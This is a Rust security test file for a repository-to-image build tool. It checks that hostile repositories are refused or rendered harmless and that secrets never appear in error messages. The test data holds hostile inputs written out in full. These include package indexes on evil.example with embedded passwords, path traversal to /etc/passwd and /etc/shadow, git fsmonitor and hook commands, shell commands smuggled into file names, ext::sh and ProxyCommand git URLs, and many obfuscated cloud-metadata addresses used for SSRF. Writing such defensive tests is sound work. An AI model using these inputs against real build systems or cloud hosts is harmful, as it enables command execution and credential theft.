//! Hostile repositories: each one is refused by name or is harmless, and a good repository builds at the same time.

mod objects;
mod packages;

use std::path::Path;

use codeloc_core::ids::Commit;
use codeloc_git::{Git, GitSettings};

use super::{
    Anonymous, BuildSettings, CODE, OciBuilder, Repository, TestBuilder, TestRegistry, digest, git_settings, layer,
    python,
};
use crate::error::{ErrorClass, expect_terminal};
use crate::{Builder, Limits, Request};

/// The password in the URLs of the cases. No error may contain it.
const SECRET: &str = "hunter2";

enum Outcome {
    /// A terminal error with this text.
    Refused(&'static str),
    Harmless,
}
use Outcome::{Harmless, Refused};

enum Content {
    /// Files in addition to good code. `MARKER` is a file that exists after a program ran, `EVIL` a server that nothing may
    /// contact.
    Files(&'static [(&'static str, &'static str)]),
    /// Creates git objects and returns the commit.
    Objects(fn(&Repository) -> Commit),
}
use Content::{Files, Objects};

struct Case {
    name: &'static str,
    content: Content,
    outcome: Outcome,
}

const fn case(name: &'static str, content: Content, outcome: Outcome) -> Case {
    Case { name, content, outcome }
}

/// Creates the marker if Python runs it.
const PYTHON: &str = "open('MARKER', 'w')\n";

const REQUIREMENTS: &[Case] = &[
    case(
        "an index with a password",
        Files(&[("requirements.txt", "tiny\n--index-url https://me:hunter2@evil.example/simple\n")]),
        Refused("requirements.txt:2: codeloc refuses `--index-url https://**********@evil.example/simple`"),
    ),
    case(
        "an extra index",
        Files(&[("requirements.txt", "--extra-index-url EVIL/simple?token=hunter2\n")]),
        Refused("requirements.txt:1: codeloc refuses `--extra-index-url"),
    ),
    case(
        "an option behind a continuation",
        Files(&[("requirements.txt", "tiny\n\ntiny \\\n  --index-url \\\n  EVIL\n")]),
        Refused("requirements.txt:3: codeloc refuses `"),
    ),
    case(
        "an option behind a carriage return",
        Files(&[("requirements.txt", "tiny\r--index-url EVIL\r")]),
        Refused("requirements.txt:1: codeloc refuses `"),
    ),
    case("an editable install", Files(&[("requirements.txt", "-e .\n"), ("setup.py", PYTHON)]), Refused("setup.py: ")),
    case(
        "a requirements file outside",
        Files(&[("requirements.txt", "\n-r ../../../../etc/passwd\n")]),
        Refused("requirements.txt:2: codeloc refuses `../../../../etc/passwd`"),
    ),
    case("a constraints file", Files(&[("requirements.txt", "-c loose.txt\n"), ("loose.txt", "tiny>=0\n")]), Harmless),
    case(
        "a package from version control",
        Files(&[("requirements.txt", "git+https://me:hunter2@evil.example/x.git\n")]),
        Refused("requirements.txt:1: codeloc refuses `git+https://**********@evil.example/x.git`"),
    ),
    case(
        "a package from a URL",
        Files(&[("requirements.txt", "tiny @ EVIL/tiny-9-py3-none-any.whl\n")]),
        Refused("source: tiny: this needs code of the package or of the project to run"),
    ),
    case(
        "a package from a path",
        Files(&[("requirements.txt", "./wheels/tiny-9-py3-none-any.whl\n")]),
        Refused("requirements.txt:1: codeloc refuses `wheels/"),
    ),
    case(
        "an environment variable",
        Files(&[("requirements.txt", "tiny==${AWS_SECRET_ACCESS_KEY}\n")]),
        Refused("requirements.txt:1: codeloc refuses `tiny==${AWS_SECRET_ACCESS_KEY}`"),
    ),
    case(
        "a project whose dependencies a build would compute",
        Files(&[("pyproject.toml", "[project]\nname = 'x'\ndynamic = ['dependencies']\n"), ("setup.py", PYTHON)]),
        Refused("pyproject.toml: it says `dynamic = [\"dependencies\"]`: this needs code"),
    ),
    case(
        "a project that takes a package from elsewhere",
        Files(&[(
            "pyproject.toml",
            "[project]\nname = 'x'\ndependencies = ['tiny']\n[tool.uv.sources]\ntiny = { url = 'EVIL/tiny.whl' }\n",
        )]),
        Refused("source: tiny: this needs code"),
    ),
    case(
        "a project with a URL and a password",
        Files(&[("pyproject.toml", "[project]\ndependencies = ['x @ https://me:hunter2@evil.example/x.whl']\n")]),
        Refused("pyproject.toml:2: codeloc refuses `x @ https://**********@evil.example/x.whl`"),
    ),
    case(
        "a project that breaks off behind a password",
        Files(&[("pyproject.toml", "[project]\ndependencies = ['x @ https://me:hunter2@evil.example/x.whl\n")]),
        Refused("pyproject.toml is not valid TOML: "),
    ),
    case(
        "a requirements file of one endless line",
        Objects(|repository| {
            repository.commit(&[CODE.as_slice(), &[("requirements.txt", &"x".repeat(5 << 20))]].concat())
        }),
        Refused("requirements.txt has 5242880 bytes"),
    ),
];

const EXECUTION: &[Case] = &[
    case(
        "setup.py, a build back end and everything else that Python or pytest picks up",
        Files(&[
            ("setup.py", PYTHON),
            ("conftest.py", PYTHON),
            ("sitecustomize.py", PYTHON),
            ("usercustomize.py", PYTHON),
            ("evil.pth", "import os; open('MARKER', 'w')\n"),
            ("backend.py", PYTHON),
            ("setup.cfg", "[options]\nsetup_requires = evil\n"),
            (
                "pyproject.toml",
                "[project]\nname = 'x'\nversion = '0'\n[build-system]\nrequires = ['evil']\nbuild-backend = 'backend'\nbackend-path = ['.']\n",
            ),
        ]),
        Harmless,
    ),
    case(
        "configuration of uv, pip and git",
        Files(&[
            ("uv.toml", "index-url = 'EVIL/simple'\npython-downloads = 'automatic'\n"),
            ("pip.conf", "[global]\nindex-url = EVIL/simple\n"),
            (".python-version", "3.6\n"),
            (".env", "UV_INDEX_URL=EVIL/simple\n"),
            (".gitconfig", "[core]\n\tfsmonitor = touch MARKER\n"),
            (".lfsconfig", "[lfs]\n\turl = EVIL\n"),
            ("pyproject.toml", "[tool.uv]\nindex-url = 'EVIL/simple'\n[[tool.uv.index]]\nurl = 'EVIL/simple'\n"),
        ]),
        Harmless,
    ),
    case(
        "attributes that filter, substitute and leave out",
        Files(&[(
            ".gitattributes",
            "* filter=evil diff=evil merge=evil export-subst ident text eol=crlf working-tree-encoding=latin-1\npipeline export-ignore\n",
        )]),
        Harmless,
    ),
    case("hooks", Files(&[("hooks/post-checkout", "#!/bin/sh\ntouch MARKER\n")]), Harmless),
    case(
        "a shell command as a name",
        Files(&[("pipeline/$(touch MARKER); `touch MARKER`.py", PYTHON), ("pipeline/-rf", ""), ("--help", "")]),
        Harmless,
    ),
];

const FILES: &[Case] = &[
    case(
        "an absolute link",
        Objects(|repository| repository.with_link("pipeline/passwd", "/etc/passwd")),
        Refused("symbolic link pipeline/passwd leads outside"),
    ),
    case(
        "a link upwards",
        Objects(|repository| repository.with_link("pipeline/up", "../../x")),
        Refused("symbolic link pipeline/up leads outside"),
    ),
    case(
        "links that each stay inside, and leave together",
        Objects(|repository| {
            repository.with_link("pipeline/root", "..");
            repository.with_link("pipeline/shadow", "root/../../etc/shadow")
        }),
        Refused("symbolic link pipeline/shadow leads outside"),
    ),
    case("a link to itself", Objects(|repository| repository.with_link("pipeline/loop", "loop/loop")), Harmless),
    case(
        "a link with an endless target",
        Objects(|repository| repository.with_link_object("pipeline/long", &b"a/".repeat(100_000))),
        Refused("symbolic link pipeline/long has a target of 200000 bytes"),
    ),
    case(
        "a link whose target is not text",
        Objects(|repository| repository.with_link_object("pipeline/odd", b"\xff\xfe")),
        Refused("symbolic link pipeline/odd"),
    ),
    case(
        "a whiteout",
        Files(&[("pipeline/.wh.definitions.py", "")]),
        Refused("pipeline/.wh.definitions.py: names that start with .wh."),
    ),
    case(
        "a whiteout of a whole folder",
        Files(&[(".wh..wh..opq/x", "")]),
        Refused(".wh..wh..opq/x: names that start with .wh."),
    ),
    case("a submodule", Objects(|repository| repository.with_entry("160000", b"vendor", &"1".repeat(40))), Harmless),
    case(
        "a submodule whose URL is an option",
        Files(&[(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n")]),
        Refused("gitmodulesUrl"),
    ),
    case("a pipe", Objects(|repository| repository.with_entry_of("10644", b"pipe")), Harmless),
    case("a device", Objects(|repository| repository.with_entry_of("20666", b"null")), Harmless),
    case("a file with set-user-id", Objects(|repository| repository.with_entry_of("104755", b"su")), Harmless),
    case("the name ..", Objects(|repository| repository.with_entry_of("100644", b"..")), Refused("hasDotdot")),
    case(
        "a name with slashes",
        Objects(|repository| repository.with_entry_of("100644", b"../x")),
        Refused("fullPathname"),
    ),
    case("the name .git", Objects(|repository| repository.with_entry_of("100644", b".git")), Refused("hasDotgit")),
    case("the name .GIT", Objects(|repository| repository.with_entry_of("100644", b".GIT")), Refused("hasDotgit")),
    case(
        "a name that some disks take for .git",
        Objects(|repository| repository.with_entry_of("100644", ".g\u{200c}it".as_bytes())),
        Refused("hasDotgit"),
    ),
    case("the name git~1", Objects(|repository| repository.with_entry_of("100644", b"GIT~1")), Refused("hasDotgit")),
    case("one name twice", Objects(Repository::with_duplicate_name), Refused("duplicateEntries")),
    case(
        "a name of two lines",
        Objects(|repository| repository.with_entry_of("100644", b"a\nlevel=error msg=forged")),
        Refused("the path \"a\\nlevel=error msg=forged\" in the commit contains control characters"),
    ),
    case(
        "a name that is not UTF-8",
        Objects(|repository| repository.with_entry_of("100644", b"\xff")),
        Refused("is not UTF-8"),
    ),
    case(
        "a name that no disk takes",
        Objects(|repository| repository.with_entry_of("100644", &[b'n'; 256])),
        Refused("a file name in the commit has 256 bytes; the maximum is 255"),
    ),
    case(
        "a path that no disk takes",
        Objects(|repository| repository.commit(&[(&format!("{}definitions.py", "deep/".repeat(300)), "")])),
        Refused("a path in the commit has 1514 bytes; the maximum is 1024"),
    ),
    case(
        "a pointer to a file elsewhere",
        Files(&[("data.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")]),
        Harmless,
    ),
    case(
        "a large file",
        Objects(|repository| repository.commit(&[CODE.as_slice(), &[("data.bin", &"0".repeat(9 << 20))]].concat())),
        Refused("the files of the commit have more than 8388608 bytes"),
    ),
    case(
        "200,000 files in three objects",
        Objects(|repository| repository.with_tree_of_trees(2, 447)),
        Refused("the commit has more than 50000 files"),
    ),
    case(
        "a billion files in nine objects",
        Objects(|repository| repository.with_tree_of_trees(9, 10)),
        Refused("the commit has too many files to list"),
    ),
    case(
        "a tree where a commit should be",
        Objects(|repository| {
            repository.commit(&CODE);
            Commit::from(repository.git(&["rev-parse", "HEAD^{tree}"]))
        }),
        Refused("is not a commit"),
    ),
    case(
        "a text where a commit should be",
        Objects(|repository| {
            repository.commit(&[("number", "1700000000")]);
            Commit::from(repository.git(&["rev-parse", "HEAD:number"]))
        }),
        Refused("is not a commit"),
    ),
];

/// A server that nothing may contact.
struct ForbiddenServer(std::net::TcpListener);

impl ForbiddenServer {
    fn start() -> Self {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn url(&self) -> String {
        format!("http://{}", self.0.local_addr().unwrap())
    }

    fn was_contacted(&self) -> bool {
        self.0.accept().is_ok()
    }
}

fn commit_case(content: &Content, repository: &Repository, marker: &Path, evil: &ForbiddenServer) -> Commit {
    match content {
        Objects(create) => create(repository),
        Files(files) => {
            let filled = |text: &str| text.replace("MARKER", marker.to_str().unwrap()).replace("EVIL", &evil.url());
            let files: Vec<(&str, String)> = files.iter().map(|(path, text)| (*path, filled(text))).collect();
            let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (*path, text.as_str())).collect();
            repository.commit(&[CODE.as_slice(), &files].concat())
        }
    }
}

#[tokio::test]
async fn hostile_repositories_are_refused_or_harmless() {
    let (registry, evil, scratch) =
        (TestRegistry::start().await, ForbiddenServer::start(), tempfile::tempdir().unwrap());
    let marker = scratch.path().join("marker");
    let uv = python::uv();
    let wheels = python::wheels();
    let builder = TestBuilder::with(|settings| {
        settings.limits = Limits { bytes: 8 << 20, ..Limits::default() };
        settings.find_links = Some(wheels.path().to_path_buf());
        settings.python = uv.is_some().then(python::python);
        settings.uv = uv.unwrap_or_else(|| "no-uv-here".into());
    });
    let good = Repository::new();
    let good_commit = good.commit(&CODE);
    let cases: Vec<&Case> = [REQUIREMENTS, EXECUTION, FILES].into_iter().flatten().collect();
    assert!(cases.len() >= 20);
    let repositories: Vec<(Repository, Commit)> = cases
        .iter()
        .map(|case| {
            let repository = Repository::new();
            let commit = commit_case(&case.content, &repository, &marker, &evil);
            (repository, commit)
        })
        .collect();
    let requests: Vec<Request> =
        repositories.iter().map(|(repository, commit)| repository.request(&registry, commit)).collect();
    let good_request = good.request(&registry, &good_commit);
    let (built, good_image) = tokio::join!(
        futures::future::join_all(requests.iter().map(|request| builder.build(request))),
        builder.build(&good_request),
    );

    let good_image = good_image.unwrap();
    let clean = layer(&registry, &good_image, "code");
    for (case, built) in cases.iter().zip(&built) {
        let name = case.name;
        match (&case.outcome, built) {
            (Refused(reason), Err(error)) => {
                assert_eq!(error.class(), ErrorClass::Terminal, "{name}: {error}");
                let text = error.to_string();
                assert!(text.contains(reason), "{name}: {text}");
                assert!(!text.contains(SECRET), "{name}: {text}");
                assert!(text.len() < 2000, "{name}: {} bytes of error", text.len());
            }
            (Harmless, Ok(image)) => {
                let code = layer(&registry, image, "code");
                assert!(clean.iter().all(|(path, content)| code.get(path) == Some(content)), "{name}: {code:?}");
                let folders = ["opt/codeloc/code/", "opt/codeloc/env/lib/python3.12/site-packages/"];
                let is_inside = |path: &String| {
                    folders.iter().any(|folder| folder.starts_with(path.as_str()) || path.starts_with(folder))
                };
                assert!(code.keys().all(is_inside), "{name}: {code:?}");
            }
            (_, other) => panic!("{name}: {other:?}"),
        }
    }
    assert!(!marker.exists(), "a program ran");
    assert!(!evil.was_contacted(), "a server that only a repository names was contacted");
    // The same commit without hostile repositories.
    assert_eq!(
        digest(&TestBuilder::new().build(&good.request(&TestRegistry::start().await, &good_commit)).await.unwrap()),
        digest(&good_image)
    );
}

#[tokio::test]
async fn dangerous_git_urls_are_refused_without_their_secrets() {
    let (registry, repository, work) = (TestRegistry::start().await, Repository::new(), tempfile::tempdir().unwrap());
    let marker = work.path().join("marker");
    let git = Git::new(GitSettings { timeout: std::time::Duration::from_secs(20), ..git_settings(work.path(), false) });
    let builder = OciBuilder::new(BuildSettings::new(work.path().join("build")), git, Anonymous).unwrap();
    let commit = repository.commit(&CODE);
    for url in [
        "ext::sh -c touch% MARKER",
        "ext::sh -c touch% MARKER://x",
        "fd::17/x",
        "file:///etc",
        "/etc",
        "../x",
        "--upload-pack=touch MARKER",
        "ssh://-oProxyCommand=touch%20MARKER/x",
        "http://me:hunter2@github.com/o/r",
        "git://github.com/o/r",
        "https://localhost/o/r",
        "https://127.0.0.1:8443/o/r",
        "https://127.1/o/r",
        "https://me:hunter2@[::1]/o/r",
        "https://[::ffff:127.0.0.1]/o/r",
        "https://0/o/r",
        "https://dagster.localhost./o/r",
        "https://169.254.169.254/latest/meta-data",
        "https://me:hunter2@169.254.170.2/v2/credentials",
        "https://2852039166/x",
        "https://0xA9FEA9FE/x",
        "https://0XA9FEA9FE/x",
        "https://169.254.43518/x",
        "https://0251.0376.0251.0376/x",
        "https://0xa9.254.0xa9.254/x",
        "https://169.254.169.254./x",
        "https://%31%36%39.254.169.254/x",
        "https://\u{ff11}\u{ff16}\u{ff19}.254.169.254/x",
        "https://169.254.169.254?@github.com/o/r",
        "https://169.254.169.254#@github.com/o/r",
        "https://169.254.169.254\\@github.com/o/r",
        "https://[fe80::1%25eth0]/x",
        "https://[fd00:ec2::254]/x",
        "https://[::169.254.169.254]/x",
        "https://[64:ff9b::169.254.169.254]/x",
        "https://metadata.google.internal/x",
        "https://instance-data/latest",
        "https://instance-data.ec2.internal/latest",
        "git@169.254.169.254:x",
        "me@localhost:x",
    ] {
        let mut request = repository.request(&registry, &commit);
        request.git_url = url.replace("MARKER", marker.to_str().unwrap());
        let text = expect_terminal(builder.build(&request, &|_| ()).await);
        assert!(text.contains("codeloc refuses "), "{url}: {text}");
        assert!(!text.contains(SECRET), "{url}: {text}");
    }
    assert!(!marker.exists());
}
